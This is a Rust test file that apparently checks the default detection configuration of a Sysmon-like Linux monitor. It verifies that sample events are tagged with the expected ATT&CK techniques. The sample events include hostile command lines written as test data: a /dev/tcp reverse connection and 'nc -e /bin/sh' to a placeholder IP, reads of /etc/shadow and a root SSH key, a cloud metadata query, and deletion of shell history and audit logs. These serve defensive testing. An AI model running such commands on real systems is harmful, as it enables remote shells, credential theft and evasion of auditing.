//! The configuration that ships does what its comments say.
//!
//! First its form: it loads without a remark, explains each rule, and names techniques as consumers expect. Then what it
//! does: events as they come from real machines, each with the technique it should be tagged with.

use std::path::Path;

use roxmltree::{Document, Node};
use tuxmon_config::Config;
use tuxmon_event::{EVENTS, EventSpec, RuleDefault};
use tuxmon_rules::{FieldSource, Rules, Scratch, Verdict};

/// What becomes of an event.
#[derive(Debug, PartialEq, Eq)]
enum Fate<'a> {
    Dropped,
    Logged,
    Tagged(&'a str),
}

use Fate::{Dropped, Logged, Tagged};

/// Fields by name; what is not here is absent.
struct Fields<'a> {
    spec: &'static EventSpec,
    values: &'a [(&'a str, &'a str)],
}

impl FieldSource for Fields<'_> {
    fn text<'a>(&'a self, position: usize, _: &'a mut String) -> &'a str {
        let name = self.spec.fields[position].name;
        if name.eq_ignore_ascii_case("ProcessGuid") || name.eq_ignore_ascii_case("SourceProcessGuid") {
            return "{6f3b2c1a-5d1e-6920-0102-030405060708}";
        }
        self.values.iter().find(|(field, _)| *field == name).map_or("", |(_, value)| value)
    }
}

#[test]
fn it_loads_without_a_remark() {
    let (config, diagnostics) = Config::parse(source().as_bytes(), "default.xml");
    assert!(config.is_some() && diagnostics.is_empty(), "{diagnostics:?}");
}

#[test]
fn every_event_that_linux_has_is_asked_for() {
    let config = Config::parse(source().as_bytes(), "default.xml").0.expect("it loads");
    for spec in EVENTS.iter().filter(|spec| spec.emitted && spec.rule_default != RuleDefault::Never) {
        assert!(tuxmon_rules::collects(&config, spec.id), "{} is not collected", spec.name);
    }
}

#[test]
fn every_rule_says_why_it_is_there() {
    let text = source();
    for rule in elements(&document(&text), "Rule") {
        let before = rule.prev_siblings().skip(1).find(|node| !node.is_text());
        let explained = before.is_some_and(|node| node.is_comment());
        assert!(explained, "line {}: a rule without a comment above it", line(rule));
    }
}

#[test]
fn every_including_rule_names_its_technique() {
    let text = source();
    for rule in elements(&document(&text), "Rule") {
        let including = rule.parent().and_then(|node| node.attribute("onmatch")) == Some("include");
        let name = rule.attribute("name");
        assert_eq!(name.is_some(), including, "line {}: rules of include nodes have a name", line(rule));
        let well_formed = name.is_none_or(|name| name == "-" || is_technique(name));
        assert!(well_formed, "line {}: {name:?} is not technique_id=T….,technique_name=…", line(rule));
    }
}

#[test]
fn no_list_holds_an_empty_token() {
    let text = source();
    for filter in document(&text).descendants().filter(Node::is_element) {
        let value = filter.text().unwrap_or_default().trim();
        let empty = value.split(';').any(str::is_empty) && value.contains(';');
        assert!(
            !empty,
            "line {}: an empty token matches everything, or makes the rest literal",
            line(filter)
        );
    }
}

#[test]
fn it_can_be_tried_where_the_original_runs() {
    let text = source();
    for filter in document(&text).descendants().filter(|node| node.has_attribute("condition")) {
        let condition = filter.attribute("condition").expect("it was asked for");
        assert_ne!(
            condition,
            "image",
            "line {}: on Linux the original compares the whole path",
            line(filter)
        );
    }
}

/// Executes `image` with `command_line`, as a child of `parent`.
#[track_caller]
fn executes(image: &str, command_line: &str, parent: &str, fate: &Fate<'_>) {
    check(1, &[("Image", image), ("CommandLine", command_line), ("ParentImage", parent)], fate);
}

#[test]
fn programs() {
    let shell = "/usr/bin/bash";
    executes("/usr/bin/true", "true", shell, &Logged);
    executes("/usr/bin/crontab", "crontab -e", shell, &Tagged("T1053.003"));
    executes("/usr/bin/systemd-run", "systemd-run --on-active=30 id", shell, &Tagged("T1053.006"));
    executes("/usr/bin/systemctl", "systemctl enable x", shell, &Tagged("T1543.002"));
    executes("/usr/bin/systemctl", "systemctl stop nginx", shell, &Tagged("T1489"));
    executes("/usr/bin/systemctl", "systemctl start nginx", shell, &Tagged("T1569.003"));
    executes("/usr/bin/systemctl", "systemctl status", shell, &Tagged("T1007"));
    executes("/usr/bin/systemctl", "reboot", shell, &Tagged("T1529"));
    executes("/usr/sbin/useradd", "useradd -m x", shell, &Tagged("T1136.001"));
    executes("/usr/bin/perl", "/usr/bin/perl /usr/sbin/adduser x", shell, &Tagged("T1136.001"));
    executes("/usr/bin/chmod", "chmod u+s x", shell, &Tagged("T1548.001"));
    executes("/usr/bin/chmod", "chmod 04755 x", shell, &Tagged("T1548.001"));
    executes("/usr/bin/chmod", "chmod 0400 key", shell, &Tagged("T1222.002"));
    executes("/usr/bin/sudo", "sudo id", shell, &Tagged("T1548.003"));
    executes("/usr/bin/kmod", "insmod x.ko", shell, &Tagged("T1547.006"));
    executes("/usr/bin/kmod", "lsmod", shell, &Tagged("T1652"));
    executes("/usr/bin/id", "id", shell, &Tagged("T1033"));
    executes("/usr/bin/uname", "uname -a", shell, &Tagged("T1082"));
    executes("/usr/bin/dash", "sh -c true", shell, &Tagged("T1059.004"));
    executes("/usr/bin/python3.11", "python3 x.py", shell, &Tagged("T1059.006"));
    executes("/tmp/x", "./x", shell, &Tagged("T1204.002"));
    executes("/home/x/.cache/x", "x", shell, &Tagged("T1564.001"));
}

#[test]
fn telling_rules_come_before_broad_ones() {
    let shell = "/usr/bin/bash";
    executes("/memfd:x", "x", shell, &Tagged("T1620"));
    executes("/usr/bin/dash", "sh -c id", "/usr/sbin/php-fpm8.2", &Tagged("T1505.003"));
    executes("/usr/bin/bash", "bash -c exec 5<>/dev/tcp/192.0.2.1/443", shell, &Tagged("T1059.004"));
    executes("/usr/bin/ncat", "nc -e /bin/sh 192.0.2.1 443", shell, &Tagged("T1059.004"));
    executes("/usr/bin/nc.openbsd", "nc 192.0.2.1 80", shell, &Tagged("T1095"));
    executes("/usr/bin/curl", "curl http://169.254.169.254/latest", shell, &Tagged("T1552.005"));
    executes("/usr/bin/curl", "curl http://192.0.2.1/x", shell, &Tagged("T1105"));
    executes("/usr/bin/cat", "cat /etc/shadow", shell, &Tagged("T1003.008"));
    executes("/usr/bin/cat", "cat /root/.ssh/id_rsa", shell, &Tagged("T1552.004"));
    executes("/usr/bin/ssh", "ssh -i /root/.ssh/id_rsa x", shell, &Tagged("T1021.004"));
    executes("/usr/bin/ssh", "ssh -R 80:localhost:80 x", shell, &Tagged("T1572"));
    executes("/usr/bin/rm", "rm /root/.bash_history", shell, &Tagged("T1070.003"));
    executes("/usr/bin/rm", "rm -rf /var/log/audit", shell, &Tagged("T1685.006"));
    executes("/usr/bin/systemctl", "systemctl stop auditd", shell, &Tagged("T1685"));
}

#[test]
fn half_a_match_leaves_no_name() {
    // The first half of the rules for web shells, timestomping and systemd timers holds; the second does not.
    executes("/usr/bin/true", "true", "/usr/sbin/nginx", &Logged);
    executes("/usr/bin/touch", "touch x", "/usr/bin/bash", &Logged);
    executes("/usr/bin/systemd-run", "systemd-run x", "/usr/bin/bash", &Logged);
}

#[test]
fn noise_is_dropped_by_full_name_only() {
    let systemd = "/usr/lib/systemd/systemd";
    executes("/usr/lib/systemd/systemd-executor", "x", systemd, &Dropped);
    executes("/usr/lib/systemd/systemd-executor", "x", "/usr/bin/bash", &Logged);
    executes("/usr/lib/sysstat/sadc", "sadc", systemd, &Dropped);
    executes("/home/x/usr/lib/sysstat/sadc", "sadc", systemd, &Logged);
    check(5, &[("Image", "/usr/bin/true")], &Logged);
    check(5, &[("Image", "/usr/lib/udev/x")], &Dropped);
}

/// A connection of `image` between two addresses.
#[track_caller]
fn connects(image: &str, source: &str, destination: &str, port: &str, fate: &Fate<'_>) {
    let values =
        [("Image", image), ("SourceIp", source), ("DestinationIp", destination), ("DestinationPort", port)];
    check(3, &values, fate);
}

#[test]
fn connections() {
    let here = "192.0.2.1";
    let there = "198.51.100.1";
    connects("/usr/bin/x", here, there, "443", &Logged);
    connects("/usr/bin/x", "127.0.0.1", "127.0.0.53", "53", &Dropped);
    connects("/usr/bin/x", "0:0:0:0:0:0:0:1", "0:0:0:0:0:0:0:1", "80", &Dropped);
    connects("/usr/bin/x", "127.0.0.1", there, "443", &Logged);
    connects("/usr/bin/bash", here, there, "443", &Tagged("T1059.004"));
    connects("/usr/bin/x", here, there, "4444", &Tagged("T1571"));
    connects("/usr/sbin/sshd", there, here, "22", &Tagged("T1021.004"));
    connects("/usr/bin/x", here, "169.254.169.254", "80", &Tagged("T1552.005"));
    connects("/usr/lib/systemd/systemd-resolved", here, there, "53", &Dropped);
    connects("/usr/lib/systemd/systemd-resolved", here, there, "443", &Logged);
    connects("/usr/bin/x", here, there, "53", &Tagged("T1071.004"));
}

#[test]
fn devices_and_tracers() {
    check(9, &[("Image", "/usr/bin/dd"), ("Device", "/dev/sda")], &Tagged("T1006"));
    check(9, &[("Image", "/usr/sbin/blkid"), ("Device", "/dev/sda")], &Dropped);
    check(10, &[("SourceImage", "/usr/bin/gdb")], &Tagged("T1055.008"));
}

/// `image` creates `path`.
#[track_caller]
fn creates(image: &str, path: &str, fate: &Fate<'_>) {
    check(11, &[("Image", image), ("TargetFilename", path)], fate);
}

#[test]
fn files_created() {
    for (path, fate) in [
        ("/etc/cron.d/x", Tagged("T1053.003")),
        ("/var/spool/cron/atjobs/x", Tagged("T1053.002")),
        ("/etc/systemd/system/x.timer", Tagged("T1053.006")),
        ("/etc/systemd/system/x.service", Tagged("T1543.002")),
        ("/home/x/.config/systemd/user/x.service", Tagged("T1543.002")),
        ("/etc/rc.local", Tagged("T1037.004")),
        ("/root/.bashrc", Tagged("T1546.004")),
        ("/etc/ld.so.preload", Tagged("T1574.006")),
        ("/etc/ld.so.cache", Dropped),
        ("/root/.ssh/authorized_keys", Tagged("T1098.004")),
        ("/etc/sudoers.d/x", Tagged("T1548.003")),
        ("/etc/pam.d/sshd", Tagged("T1556.003")),
        ("/etc/shadow", Tagged("T1098")),
        ("/usr/lib/modules/x.ko", Tagged("T1547.006")),
        ("/etc/audit/rules.d/x", Tagged("T1685.004")),
        ("/var/www/html/x.php", Tagged("T1505.003")),
        ("/var/www/html/x.jpg", Dropped),
        ("/dev/shm/.x", Tagged("T1564.001")),
        ("/tmp/x.sh", Tagged("T1105")),
        ("/tmp/x", Dropped),
        ("/usr/bin/x", Tagged("T1554")),
        ("/home/x/notes.txt", Dropped),
    ] {
        creates("/usr/bin/cp", path, &fate);
    }
    creates("/usr/bin/wget", "/home/x/x", &Tagged("T1105"));
    creates("/usr/bin/dpkg", "/usr/bin/x", &Dropped);
    creates("/usr/bin/dpkg", "/etc/cron.d/x", &Tagged("T1053.003"));
}

/// `image` deletes `path`, which is a program or not.
#[track_caller]
fn deletes(image: &str, path: &str, executable: &str, fate: &Fate<'_>) {
    check(23, &[("Image", image), ("TargetFilename", path), ("IsExecutable", executable)], fate);
}

#[test]
fn files_deleted() {
    deletes("/usr/bin/rm", "/var/log/auth.log", "false", &Tagged("T1685.006"));
    deletes("/usr/sbin/logrotate", "/var/log/auth.log.4", "false", &Dropped);
    deletes("/usr/bin/rm", "/root/.bash_history", "false", &Tagged("T1070.003"));
    deletes("/usr/bin/rm", "/etc/cron.d/x", "false", &Tagged("T1070.009"));
    deletes("/tmp/x", "/tmp/x", "true", &Tagged("T1070.004"));
    deletes("/usr/bin/rm", "/tmp/x", "false", &Dropped);
}

/// `image` loads an eBPF program.
#[track_caller]
fn loads(image: &str, program_type: &str, fate: &Fate<'_>) {
    check(100, &[("Image", image), ("BpfProgramType", program_type)], fate);
}

#[test]
fn ebpf_programs() {
    loads("/tmp/x", "SOCKET_FILTER", &Tagged("T1205.002"));
    loads("/usr/bin/bpftrace", "KPROBE", &Tagged("T1014"));
    loads("/usr/lib/systemd/systemd", "CGROUP_SKB", &Dropped);
    loads("/usr/lib/systemd/systemd", "KPROBE", &Tagged("T1014"));
    loads("/usr/bin/x", "STRUCT_OPS", &Logged);
}

#[track_caller]
fn check(id: u16, values: &[(&str, &str)], fate: &Fate<'_>) {
    let spec = tuxmon_event::spec(id).expect("an event of the schema");
    for (name, _) in values {
        assert!(spec.fields.iter().any(|field| field.name == *name), "{} has no field {name}", spec.name);
    }
    let verdict = rules().verdict(id, &Fields { spec, values }, &mut Scratch::default());
    let name = match &verdict {
        Verdict::Drop => None,
        Verdict::Keep { rule_name } => Some(rule_name.as_str()),
    };
    let got = match name {
        None => Dropped,
        Some("" | "-") => Logged,
        Some(name) => Tagged(technique_id(name).unwrap_or(name)),
    };
    assert_eq!(got, *fate, "{} {values:?}", spec.name);
}

fn is_technique(name: &str) -> bool {
    let id = technique_id(name).and_then(|id| id.strip_prefix('T'));
    let (technique, sub) = id.map(|id| id.split_once('.').unwrap_or((id, "000"))).unwrap_or_default();
    let digits =
        |text: &str, count: usize| text.len() == count && text.bytes().all(|byte| byte.is_ascii_digit());
    digits(technique, 4) && digits(sub, 3) && name.len() <= 255
}

fn technique_id(name: &str) -> Option<&str> {
    let (id, title) = name.strip_prefix("technique_id=")?.split_once(",technique_name=")?;
    (!title.is_empty() && !title.contains([',', '='])).then_some(id)
}

fn rules() -> Rules {
    let (config, diagnostics) = Config::parse(source().as_bytes(), "default.xml");
    Rules::compile(&config.unwrap_or_else(|| panic!("{diagnostics:?}")))
}

fn document(text: &str) -> Document<'_> {
    Document::parse(text).expect("well-formed XML")
}

fn elements<'a>(document: &'a Document<'a>, name: &'a str) -> impl Iterator<Item = Node<'a, 'a>> {
    document.descendants().filter(move |node| node.has_tag_name(name))
}

fn line(node: Node<'_, '_>) -> u32 {
    node.document().text_pos_at(node.range().start).row
}

fn source() -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../packaging/config/default.xml");
    std::fs::read_to_string(&path).unwrap_or_else(|error| panic!("{}: {error}", path.display()))
}
